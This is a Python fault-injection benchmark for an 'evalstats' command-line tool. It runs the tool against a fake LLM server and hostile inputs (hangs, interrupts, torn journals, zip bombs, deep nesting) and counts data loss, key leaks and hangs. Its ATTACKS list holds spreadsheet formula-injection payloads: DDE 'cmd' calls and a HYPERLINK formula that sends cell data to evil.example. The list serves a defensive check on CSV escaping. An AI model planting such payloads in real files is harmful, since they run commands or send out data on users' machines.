"""The second round of fault cases (issue 21), run by ``bench_faults.py --round 2``.

Each case drives the real ``evalstats`` command line in a child process against the
loopback fake (``tests/fakellm.py``, in this process) or on hostile input files, then
counts, from the fake's counters, the journal and the child's output:

- paid lost: a call the server answered that has no journal line (nor a line printed as
  "not journaled") -- matched by request body, so a call cut by an interrupt counts as kept
  when its ``Interrupted`` line is there;
- double-paid: a request body the server answered more than once with a success;
- data lost: a user's file left torn or a run that went on with input it had to refuse
  (a journal with a NaN cost, ``--out /dev/null``, a guessed import);
- hangs: the child passed its time cap or its memory cap (max RSS);
- tracebacks: ``Traceback`` on stderr;
- leaks: the API key in any output, journal or message;
- injections: a CSV cell a spreadsheet would run (``= + - @``, tab, CR first).
"""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
TESTS = ROOT / "tests"
sys.path.insert(0, str(TESTS))

from fakellm import FakeLLM  # noqa: E402

KEY = "bench-round2-key-0123456789abcdef"
JUDGE = {"anthropic": "anthropic:claude-sonnet-4-20250514", "openai": "openai:gpt-4o"}
COLUMNS = ("paid lost", "double-paid", "data lost", "hangs", "tracebacks", "leaks", "injections")
TIME_CAP_S = 40.0
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@dataclass
class Child:
    code: int | None
    out: str
    err: str
    wall_s: float
    rss_mb: float
    over_cap: bool


def data_dir(root: Path, n: int, answers: Callable[[int], str] | None = None) -> Path:
    """A small data directory: ``n`` tasks x 1 replicate, both arms."""
    root.mkdir(parents=True, exist_ok=True)
    tasks, runs = [], []
    for i in range(n):
        tid = f"T{i:03d}"
        tasks.append(
            {
                "task_id": tid,
                "prompt": f"Where is S{i} defined?",
                "canonical_answer": f"pkg/s{i}.go",
                "canonical_written_at": "2026-05-01T10:00:00Z",
                "budget_tokens": 100000,
                "budget_wall_s": 3000.0,
            }
        )
        for arm in ("with", "without"):
            text = answers(2 * i + (arm == "without")) if answers else f"{arm} {tid}"
            runs.append(
                {
                    "task_id": tid,
                    "replicate": 1,
                    "arm": arm,
                    "agent_model": "m",
                    "answer": text,
                    "files_inspected": ["a.go"],
                    "wall_s": 10.0,
                    "started_at": "2026-05-02T10:00:00Z",
                }
            )
    (root / "tasks.jsonl").write_text("".join(json.dumps(t) + "\n" for t in tasks))
    (root / "runs.jsonl").write_text("".join(json.dumps(r) + "\n" for r in runs))
    return root


def run_cli(
    args: list[str],
    env: dict[str, str] | None = None,
    *,
    cap_s: float = TIME_CAP_S,
    cap_mb: float = 1500.0,
    signals: tuple[tuple[Callable[[], bool], int], ...] = (),
    fsize: int | None = None,
    code: str = "import sys; from evalstats.cli import main; sys.exit(main())",
) -> Child:
    """``evalstats ARGS`` (or Python ``code``) in a child; ``signals``: (condition, signal)
    sent in turn."""
    full_env = dict(os.environ, **(env or {}))
    full_env["PYTHONPATH"] = os.pathsep.join([str(ROOT), full_env.get("PYTHONPATH", "")])

    def limits() -> None:
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    t0 = time.perf_counter()
    proc = subprocess.Popen(
        [sys.executable, "-c", code, *args],
        env=full_env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=limits,
    )
    # Read both pipes while waiting, so a chatty child never blocks on a full pipe.
    streams: dict[str, str] = {}
    readers = [
        threading.Thread(target=lambda n=n, f=f: streams.__setitem__(n, f.read()), daemon=True)
        for n, f in (("out", proc.stdout), ("err", proc.stderr))
    ]
    for reader in readers:
        reader.start()
    pending = list(signals)
    over = False
    while True:
        # wait4 gives this child's own peak memory (RUSAGE_CHILDREN would be all of them).
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            code = os.waitstatus_to_exitcode(status)
            rss = usage.ru_maxrss / 1024
            break
        if pending and pending[0][0]():
            proc.send_signal(pending.pop(0)[1])
            time.sleep(0.15)
        if time.perf_counter() - t0 > cap_s and not over:
            over = True
            proc.kill()
        time.sleep(0.01)
    proc.returncode = code
    for reader in readers:
        reader.join()
    out, err = streams.get("out", ""), streams.get("err", "")
    return Child(code, out, err, time.perf_counter() - t0, rss, over or rss > cap_mb)


def _journal(path: Path) -> list[dict]:
    if not path.is_file():
        return []
    out = []
    for line in path.read_text(errors="replace").splitlines():
        try:
            out.append(json.loads(line))
        except ValueError:
            out.append({"torn": line})
    return out


def _rescued(err: str) -> list[dict]:
    marker = "evalstats judge: not journaled ("
    return [json.loads(x.split("): ", 1)[1]) for x in err.splitlines() if x.startswith(marker)]


def _judge_args(data: Path, provider: str, *extra: str) -> list[str]:
    return [
        "judge",
        str(data),
        "--rubric",
        "with-without",
        "--judge",
        JUDGE[provider],
        "--no-progress",
        "--max-retries",
        "1",
        *extra,
    ]


def _env(fake: FakeLLM, **extra: str) -> dict[str, str]:
    return {
        "ANTHROPIC_API_KEY": KEY,
        "OPENAI_API_KEY": KEY,
        "ANTHROPIC_BASE_URL": fake.anthropic_url,
        "OPENAI_BASE_URL": fake.openai_url,
        **extra,
    }


def _money(fake: FakeLLM, journal: list[dict], children: list[Child]) -> Counter:
    """paid lost / double-paid from the fake's per-body counts and the journal's bodies."""
    counts = fake.counts()
    paid_ids = set(counts["paid_ids"])
    kept_ids = {x.get("request_id") for x in journal} | {
        x.get("request_id") for c in children for x in _rescued(c.err)
    }
    lost = len(paid_ids - kept_ids)
    # Batch answers carry no request id of the fake's: count them by body.
    lines = [x for x in journal if x.get("call_key") and x.get("error") is None]
    batch_paid = sum(counts["paid"].values()) - len(counts["paid_ids"])
    if batch_paid > 0:
        lost = max(lost, sum(counts["paid"].values()) - len({x["call_key"] for x in lines}))
    c = Counter()
    c["paid lost"] = max(0, lost)
    c["double-paid"] = sum(v - 1 for v in counts["paid"].values() if v > 1)
    return c


def _common(children: list[Child], files: list[Path] = ()) -> Counter:
    c = Counter()
    text = "".join(ch.out + ch.err for ch in children)
    text += "".join(p.read_text(errors="replace") for p in files if p.is_file())
    c["tracebacks"] = sum("Traceback" in ch.err for ch in children)
    c["hangs"] = sum(ch.over_cap for ch in children)
    c["leaks"] = text.count(KEY) + text.count(KEY[:16]) + text.count(KEY[-16:])
    return c


# --------------------------------------------------------------------------- the cases


def case_wait(tmp: Path, provider: str, fault: str) -> Counter:
    with FakeLLM(api_key=KEY, trickle_s=0.05) as fake:
        data = data_dir(tmp / "data", 2)
        fake.script([fault, None, None])
        env = _env(fake, EVALSTATS_MAX_WAIT_S="1")
        ch = run_cli(_judge_args(data, provider, "--timeout", "0.5", "--concurrency", "1"), env)
        journal = _journal(data / "judgments.jsonl")
        c = _money(fake, journal, [ch]) + _common([ch], [data / "judgments.jsonl"])
        # The wait hint and the trickle must end within a few caps, not 10^9 s or 15 s.
        c["hangs"] += int(ch.wall_s > 15.0)
        return c


def case_huge_error(tmp: Path, provider: str) -> Counter:
    with FakeLLM(api_key=KEY, huge_error_bytes=200_000_000) as fake:
        data = data_dir(tmp / "data", 1)
        fake.script(["hugeerror", "hugeerror"])
        ch = run_cli(_judge_args(data, provider), _env(fake), cap_mb=600.0)
        journal = _journal(data / "judgments.jsonl")
        return _money(fake, journal, [ch]) + _common([ch], [data / "judgments.jsonl"])


def case_batch_resume(tmp: Path, provider: str) -> Counter:
    with FakeLLM(api_key=KEY, echo_key=True) as fake:
        data = data_dir(tmp / "data", 4)
        args = _judge_args(data, provider, "--batch", "--poll-interval", "0.01")
        fake.batch_fail = "poll"
        first = run_cli(args, _env(fake))
        fake.batch_fail = None
        second = run_cli([*args, "--max-tokens", "512"], _env(fake))
        third = run_cli(args, _env(fake))
        journal = _journal(data / "judgments.jsonl")
        c = _money(fake, journal, [first, second, third])
        c += _common([first, second, third], [data / "judgments.jsonl"])
        c["data lost"] += int(first.code != 2 or first.err.count("\n") != 1)
        return c


def case_batch_submit_error(tmp: Path, provider: str) -> Counter:
    with FakeLLM(api_key=KEY, echo_key=True) as fake:
        data = data_dir(tmp / "data", 2)
        fake.batch_fail = "submit"
        ch = run_cli(_judge_args(data, provider, "--batch", "--poll-interval", "0.01"), _env(fake))
        c = _money(fake, _journal(data / "judgments.jsonl"), [ch]) + _common([ch])
        c["data lost"] += int(ch.code != 2)
        return c


def case_interrupt(tmp: Path, sig: int, times: int) -> Counter:
    with FakeLLM(api_key=KEY, latency=0.6 if times == 1 else 20.0) as fake:
        data = data_dir(tmp / "data", 12)
        started = lambda: fake.counts()["requests"] >= 4  # noqa: E731
        signals = tuple((started, sig) for _ in range(times))
        args = _judge_args(data, "openai", "--concurrency", "4", "--timeout", "30")
        first = run_cli(args, _env(fake), signals=signals)
        time.sleep(0.1)
        journal = _journal(data / "judgments.jsonl")
        keys_with_line = {x["call_key"] for x in journal if x.get("call_key")}
        c = Counter()
        if times == 1:
            c += _money(fake, journal, [first])
        else:
            # Cut calls cannot be read, but each has a line (Interrupted): the rerun knows.
            c["paid lost"] = max(0, fake.counts()["requests"] - len(keys_with_line))
        fake.latency = 0.0
        second = run_cli(args, _env(fake))
        if times == 1:
            c["double-paid"] = _money(fake, _journal(data / "judgments.jsonl"), [])["double-paid"]
        c += _common([first, second])
        c["data lost"] += int(first.code is None or first.code < 0)
        return c


def case_bad_journal(tmp: Path, value: object) -> Counter:
    with FakeLLM(api_key=KEY) as fake:
        data = data_dir(tmp / "data", 2)
        line = {"call_key": "a" * 64, "error": None, "usd": 0.01, "usd_counted": value}
        (data / "judgments.jsonl").write_text(json.dumps(line) + "\n")
        ch = run_cli(_judge_args(data, "openai", "--max-usd", "0.0001"), _env(fake))
        c = _common([ch])
        c["data lost"] += int(ch.code != 2 or fake.counts()["requests"] > 0)
        return c


def case_dev_null(tmp: Path) -> Counter:
    with FakeLLM(api_key=KEY) as fake:
        data = data_dir(tmp / "data", 2)
        ch = run_cli(_judge_args(data, "openai", "--out", "/dev/null"), _env(fake))
        c = _money(fake, [], [ch]) + _common([ch])
        c["data lost"] += int(ch.code != 2 or fake.counts()["requests"] > 0)
        return c


def case_short_write(tmp: Path) -> Counter:
    with FakeLLM(api_key=KEY, latency=0.02) as fake:
        data = data_dir(tmp / "data", 30)
        # RLIMIT_FSIZE: the kernel cuts the write at 3000 bytes, as a full disk does.
        args = _judge_args(data, "openai", "--concurrency", "4")
        ch = run_cli(args, _env(fake), fsize=3000)
        out = data / "judgments.jsonl"
        raw = out.read_bytes() if out.exists() else b""
        c = _money(fake, _journal(out), [ch]) + _common([ch], [out])
        torn = bool(raw) and not raw.endswith(b"\n")
        c["data lost"] += int(torn or ch.code != 2)
        c["paid lost"] += max(0, fake.counts()["requests"] - len(fake.counts()["paid_ids"]))
        return c


def case_torn_tail(tmp: Path) -> Counter:
    with FakeLLM(api_key=KEY) as fake:
        data = data_dir(tmp / "data", 3)
        first = run_cli(_judge_args(data, "openai"), _env(fake))
        out = data / "judgments.jsonl"
        out.write_bytes(out.read_bytes() + b'{"call_key": "tor')
        second = run_cli(_judge_args(data, "openai"), _env(fake))
        journal = _journal(out)
        c = _money(fake, journal, [first, second]) + _common([first, second], [out])
        c["data lost"] += int(
            any("torn" in x for x in journal) or not out.read_bytes().endswith(b"\n")
        )
        return c


def case_import(tmp: Path, kind: str, setup: Callable[[Path], list[str]]) -> Counter:
    """``setup(src)`` writes a valid source with one fault and returns the import's args."""
    src = tmp / "src"
    src.mkdir(parents=True, exist_ok=True)
    ch = run_cli(["import", kind, *setup(src), "-o", str(tmp / "out")], cap_mb=800.0)
    c = _common([ch])
    # Guessing (exit 0) or failing unclearly (more than one line) is the fault here.
    c["data lost"] += int(ch.code != 2 or ch.err.strip().count("\n") != 0)
    return c


def _table_source(src: Path, edit: Callable[[list[str]], list[str]], name: str) -> list[str]:
    """The runs of a small data dir as a JSONL table, its lines edited."""
    data = data_dir(src / "data", 2)
    lines = edit((data / "runs.jsonl").read_text().splitlines())
    path = src / name
    path.write_text("\n".join(lines) + "\n")
    return [str(path), "--tasks", str(data / "tasks.jsonl")]


def _csv_source(src: Path) -> list[str]:
    data = data_dir(src / "data", 2)
    runs = [json.loads(x) for x in (data / "runs.jsonl").read_text().splitlines()]
    header = ["task_id", "replicate", "arm", "agent_model", "answer", "wall_s", "started_at"]
    header.append("answer")
    rows = [",".join(header)]
    for r in runs:
        rows.append(",".join(str(r[k]) for k in header[:-1]) + ",other text")
    path = src / "runs.csv"
    path.write_text("\n".join(rows) + "\n")
    return [str(path), "--tasks", str(data / "tasks.jsonl")]


def _claude_source(src: Path, name: str, text: str) -> list[str]:
    """The Claude Code fixture folder with ``name`` replaced by ``text``."""
    import shutil

    folder = src / "outputs"
    shutil.copytree(TESTS / "fixtures/importers/claude_code", folder)
    (folder / name).unlink(missing_ok=True)
    (folder / name).write_text(text)
    return [
        str(folder),
        "--arm-values",
        "with=serena,without=plain",
        "--tasks",
        str(TESTS / "fixtures/importers/tasks.jsonl"),
    ]


def _zip_source(src: Path, members: list[tuple[str, bytes]]) -> list[str]:
    path = src / "x.eval"
    path.write_bytes(_zip(members))
    return [str(path), "--arm-from", "model"]


def case_rubric(tmp: Path) -> Counter:
    data = data_dir(tmp / "data", 1)
    rubric = tmp / "deep.toml"
    rubric.write_text('name = "x"\nv = ' + "[" * 5000 + "1" + "]" * 5000 + "\n")
    ch = run_cli(
        ["judge", str(data), "--rubric", str(rubric), "--judge", "openai:gpt-4o", "--dry-run"]
    )
    c = _common([ch])
    c["data lost"] += int(ch.code != 2)
    return c


def case_label_sheet(tmp: Path) -> Counter:
    import pandas as pd

    data = data_dir(tmp / "data", 12, answers=lambda i: ATTACKS[i % len(ATTACKS)] + f" #{i}")
    sheet = tmp / "sheet.csv"
    ch = run_cli(["label", str(data), "-n", "12", "--seed", "1", "-o", str(sheet)])
    c = _common([ch])
    if sheet.exists():
        cells = pd.read_csv(sheet, dtype=str, keep_default_na=False).to_numpy().ravel()
        c["injections"] = int(sum(str(x)[:1] in ("=", "+", "-", "@", "\t", "\r") for x in cells))
    else:
        c["data lost"] += 1
    return c


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    import io
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the point of one case
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            for name, data in members:
                archive.writestr(name, data)
    return buf.getvalue()


def cases() -> list[tuple[str, str, Callable[[Path], Counter]]]:
    stream = (TESTS / "fixtures/importers/claude_code/t1__serena__1.jsonl").read_text()
    events = [json.loads(x) for x in stream.splitlines() if x.strip()]
    two_sessions = stream + "".join(json.dumps(dict(e, session_id="other")) + "\n" for e in events)
    nonstring = "".join(
        json.dumps(dict(e, result=["x"]) if e["type"] == "result" else e) + "\n" for e in events
    )
    deep = "[" * 100_000 + "]" * 100_000
    out: list[tuple[str, str, Callable[[Path], Counter]]] = []
    for provider in JUDGE:
        for fault in ("trickle", "waitforever", "waitinf", "reset2999"):
            out.append(
                (
                    "bounded waits",
                    f"{fault} {provider}",
                    lambda t, p=provider, f=fault: case_wait(t, p, f),
                )
            )
        out.append(
            (
                "bounded memory",
                f"200 MB error body {provider}",
                lambda t, p=provider: case_huge_error(t, p),
            )
        )
        out.append(
            (
                "batch",
                f"poll error, resume with other max-tokens {provider}",
                lambda t, p=provider: case_batch_resume(t, p),
            )
        )
        out.append(
            (
                "batch",
                f"submit error echoing the key {provider}",
                lambda t, p=provider: case_batch_submit_error(t, p),
            )
        )
    for name, sig, times in (
        ("SIGINT", signal.SIGINT, 1),
        ("SIGTERM", signal.SIGTERM, 1),
        ("SIGINT twice", signal.SIGINT, 2),
        ("SIGTERM twice", signal.SIGTERM, 2),
    ):
        out.append(("interrupts", name, lambda t, s=sig, n=times: case_interrupt(t, s, n)))
    for value in (float("nan"), -1.0, "0.1", float("inf")):
        out.append(("journal", f"usd_counted {value!r}", lambda t, v=value: case_bad_journal(t, v)))
    out.append(("journal", "--out /dev/null", case_dev_null))
    out.append(("journal", "short write (RLIMIT_FSIZE)", case_short_write))
    out.append(("journal", "torn last line", case_torn_tail))
    dup_key = '{"task_id": "T000", "answer": "x", '

    def twice(lines: list[str]) -> list[str]:
        return [dup_key + lines[0][1:], *lines[1:]]

    def nested(lines: list[str]) -> list[str]:
        return [lines[0][:-1] + ', "x": ' + deep + "}", *lines[1:]]

    def to_zero(src: Path) -> list[str]:
        args = _table_source(src, lambda x: x, "runs.jsonl")
        Path(args[0]).unlink()
        Path(args[0]).symlink_to("/dev/zero")
        return args

    imports: list[tuple[str, str, Callable[[Path], list[str]]]] = [
        ("duplicate JSONL key", "table", lambda s: _table_source(s, twice, "runs.jsonl")),
        ("duplicate CSV column", "table", _csv_source),
        ("deep JSONL", "table", lambda s: _table_source(s, nested, "runs.jsonl")),
        ("symlink to /dev/zero", "table", to_zero),
        (
            "two Claude Code sessions",
            "claude-code",
            lambda s: _claude_source(s, "t1__serena__1.jsonl", two_sessions),
        ),
        (
            "non-string result",
            "claude-code",
            lambda s: _claude_source(s, "t1__serena__1.jsonl", nonstring),
        ),
        (
            "deep Claude Code JSON",
            "claude-code",
            lambda s: _claude_source(s, "t1__plain__1.json", '{"a": ' + deep + "}"),
        ),
        (
            "duplicate zip member",
            "inspect",
            lambda s: _zip_source(s, [("header.json", b"{}"), ("header.json", b"{}")]),
        ),
        (
            "zip member inflating to 300 MB",
            "inspect",
            lambda s: _zip_source(s, [("samples/1.json", b"\0" * 300_000_000)]),
        ),
    ]
    for name, kind, setup in imports:
        out.append(("imports", name, lambda t, k=kind, f=setup: case_import(t, k, f)))
    out.append(("imports", "deeply nested rubric TOML", case_rubric))
    out.append(("injection", "labelling sheet of formula answers", case_label_sheet))
    from faults_round2_report import cases as report_cases

    def run_python(code: str, **caps: float) -> Child:
        return run_cli([], code=code, **caps)

    return out + report_cases(run_cli, run_python, _common)


def main(classes: list[str] | None = None) -> None:
    """Run every case (or those of ``classes``) and print the per-class table."""
    table: dict[str, Counter] = {}
    n_cases: Counter = Counter()
    clean: Counter = Counter()
    with tempfile.TemporaryDirectory() as tmp_name:
        for i, (klass, name, run) in enumerate(cases()):
            if classes and klass not in classes:
                continue
            t0 = time.perf_counter()
            counts = run(Path(tmp_name) / f"case{i}")
            faults = {k: v for k, v in counts.items() if v}
            n_cases[klass] += 1
            clean[klass] += int(not faults)
            table.setdefault(klass, Counter()).update(counts)
            verdict = "clean" if not faults else ", ".join(f"{k} {v}" for k, v in faults.items())
            print(
                f"  {klass:15} {name:48} {time.perf_counter() - t0:5.1f} s  {verdict}", flush=True
            )
    header = f"{'class':15} {'cases':>5} {'clean':>5} " + " ".join(f"{c:>11}" for c in COLUMNS)
    print(header)
    for klass in table:
        row = " ".join(f"{table[klass][c]:>11}" for c in COLUMNS)
        print(f"{klass:15} {n_cases[klass]:>5} {clean[klass]:>5} {row}")
    total = sum(table.values(), Counter())
    row = " ".join(f"{total[c]:>11}" for c in COLUMNS)
    print(f"{'all':15} {sum(n_cases.values()):>5} {sum(clean.values()):>5} {row}")


if __name__ == "__main__":
    main(sys.argv[1:] or None)
